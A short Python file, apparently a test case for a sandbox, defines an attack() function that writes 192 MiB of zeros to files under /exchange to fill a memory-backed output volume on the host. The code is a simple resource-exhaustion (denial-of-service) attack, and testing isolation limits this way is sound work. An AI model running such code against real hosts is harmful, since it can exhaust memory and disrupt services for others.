"""Fills the volume that output goes into, which is memory of the host."""

from pathlib import Path

MANY = 192


def attack():
    for number in range(MANY // 32):
        with Path(f"/exchange/full-{number}").open("wb", buffering=0) as file:
            file.writelines(bytes(2**20) for _ in range(32))
    return f"{MANY} MiB"
